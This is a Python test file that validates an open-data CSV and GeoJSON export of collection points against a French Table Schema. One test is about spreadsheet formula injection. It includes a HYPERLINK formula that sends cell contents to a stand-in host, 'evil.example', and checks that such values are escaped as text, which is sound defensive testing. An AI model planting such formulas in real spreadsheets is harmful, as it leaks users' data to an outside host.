"""The collection points' open-data CSV validates against the "lieux de médiation numérique"
Table Schema (v1.0.2, the official file, column order included) with frictionless, as the
standard's own CI validates files."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, datetime
from pathlib import Path

import msgspec
from frictionless import Resource, Schema

from services.collection_point.demo import DEMO_PLACES
from services.collection_point.places.domain import Place
from services.collection_point.places.open_data import COLUMNS, places_csv, places_geojson

SCHEMA = Path(__file__).parent / "schemas" / "lieux-mediation-numerique-1.0.2.json"


def _places() -> list[Place]:
    now = datetime(2026, 11, 28, tzinfo=UTC)
    return [
        msgspec.convert(
            {**msgspec.to_builtins(fields), "id": str(uuid.uuid4()), "updated_at": now.isoformat()},
            Place,
        )
        for fields in DEMO_PLACES.values()
    ]


def _report(csv_text: str, tmp_path: Path):  # type: ignore[no-untyped-def]
    path = tmp_path / "lieux.csv"
    path.write_text(csv_text, encoding="utf-8")
    schema = Schema.from_descriptor(json.loads(SCHEMA.read_text(encoding="utf-8")))
    return Resource(path=path.name, basepath=str(tmp_path), schema=schema).validate()


def test_the_demo_places_export_is_valid_open_data(tmp_path: Path) -> None:
    report = _report(places_csv(_places(), "Boucle"), tmp_path)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "message"])


def test_the_export_has_the_standard_columns_in_order() -> None:
    header = places_csv(_places(), "Boucle").splitlines()[0].split(",")
    descriptor = json.loads(SCHEMA.read_text(encoding="utf-8"))
    schema_names = [field["name"] for field in descriptor["fields"]]
    assert header == list(COLUMNS) == schema_names


def test_a_malformed_postcode_would_be_caught_by_the_validation(tmp_path: Path) -> None:
    text = places_csv(_places()[:1], "Boucle").replace(",59000,", ",5900,")
    assert not _report(text, tmp_path).valid


def test_places_with_coordinates_are_a_geojson_feature_collection() -> None:
    collection = places_geojson(_places())
    assert collection["type"] == "FeatureCollection"
    assert len(collection["features"]) == len(DEMO_PLACES)
    longitude, latitude = collection["features"][0]["geometry"]["coordinates"]
    assert 2.5 < longitude < 3.5 and 50 < latitude < 51  # Lille, longitude first


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def test_formula_like_names_are_written_as_text_and_the_export_stays_valid(
    tmp_path: Path,
) -> None:
    """A place typed as a formula opens as text; its number and phone columns keep their
    sign, which the schema's number type and +33 pattern need."""
    (place,) = _places()[:1]
    hostile = msgspec.structs.replace(
        place,
        name=HOSTILE,
        address="-2+3 rue de la Paix",
        commune="@SUM(1)",
        accessibility="\tRampe d'accès",
        opening_hours="+Mo-Fr 09:00-12:00",
        longitude=-1.553621,
        phone="+33320123456",
    )
    text = places_csv([hostile], "=Boucle")
    assert _report(text, tmp_path).valid, _report(text, tmp_path).flatten(["fieldName", "message"])
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["nom"] == "'" + HOSTILE
    assert row["adresse"] == "'-2+3 rue de la Paix"
    assert row["commune"] == "'@SUM(1)"
    assert row["presentation_detail"] == "'\tRampe d'accès"
    assert row["source"] == "'=Boucle"
    assert (row["longitude"], row["telephone"]) == ("-1.553621", "+33320123456")
